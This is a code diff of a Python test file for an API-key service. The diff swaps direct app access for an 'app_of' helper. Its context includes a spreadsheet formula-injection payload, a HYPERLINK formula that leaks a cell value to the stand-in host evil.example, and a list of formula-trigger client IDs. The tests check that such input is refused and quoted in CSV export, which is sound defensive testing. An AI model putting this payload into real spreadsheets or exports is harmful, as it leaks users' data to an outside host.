@@ -18,6 +18,7 @@ from app.core.db import session_scope
 from app.core.errors import Unprocessable
 from app.core.spreadsheet import inert_cell
 from tests.api.conftest import KeyFactory
+from tests.conftest import app_of
 
 FORMULA = '=HYPERLINK("https://evil.example/?leak="&A1,"Open")'
 BAD_CLIENT_IDS = [FORMULA, "+1", "-1", "@SUM(A1)", "acme\n", "acme bank", "", "a" * 129,
@@ -47,7 +48,7 @@ def test_a_wrong_secret_for_a_real_key_id_is_rejected(
 
 def test_only_a_hash_of_the_key_is_stored(client: TestClient, make_key: KeyFactory) -> None:
     plain = make_key("requester", "acme")["Authorization"].removeprefix("Bearer ")
-    with session_scope(client.app.state.sessionmaker) as db_session:  # type: ignore[attr-defined]
+    with session_scope(app_of(client).state.sessionmaker) as db_session:
         stored = db_session.scalars(select(ApiKey)).one()
     secret = plain.split("_", 2)[2]
     assert secret not in (stored.secret_hash, stored.id, stored.name)
@@ -104,11 +105,11 @@ def test_the_api_and_keys_create_refuse_the_same_client_ids(client: TestClient,
         response = client.post("/v1/api-keys", json={"role": "requester",
                                                      "client_id": client_id}, headers=admin)
         assert response.status_code == 422, client_id
-        sessionmaker = client.app.state.sessionmaker  # type: ignore[attr-defined]
+        sessionmaker = app_of(client).state.sessionmaker
         with session_scope(sessionmaker) as db_session, pytest.raises(
                 Unprocessable, match="Invalid client id"):
             keys.create(db_session, role=Role.requester, client_id=client_id)
-    with session_scope(client.app.state.sessionmaker) as db_session:  # type: ignore[attr-defined]
+    with session_scope(app_of(client).state.sessionmaker) as db_session:
         assert [k.client_id for k in keys.list_all(db_session)] == ["lethe"]
 
 
@@ -126,7 +127,7 @@ def test_lethe_keys_create_refuses_what_the_api_refuses(
         assert created.exit_code == 0, created.output
     finally:
         get_settings.cache_clear()
-    with session_scope(client.app.state.sessionmaker) as db_session:  # type: ignore[attr-defined]
+    with session_scope(app_of(client).state.sessionmaker) as db_session:
         assert [k.client_id for k in keys.list_all(db_session)] == ["acme-bank"]
 
 def test_csv_cells_that_could_start_a_formula_are_quoted() -> None:
@@ -141,7 +142,7 @@ def test_a_formula_client_id_from_before_the_check_reaches_the_csv_as_text(
         client: TestClient, make_key: KeyFactory, operator: dict[str, str]) -> None:
     # A key `lethe keys create` accepted before it checked client ids.
     legacy = make_key("requester", "acme")
-    with session_scope(client.app.state.sessionmaker) as db_session:  # type: ignore[attr-defined]
+    with session_scope(app_of(client).state.sessionmaker) as db_session:
         db_session.execute(update(ApiKey).where(ApiKey.client_id == "acme")
                            .values(client_id=FORMULA))
     submitted = client.post("/v1/deletion-requests", headers=legacy,
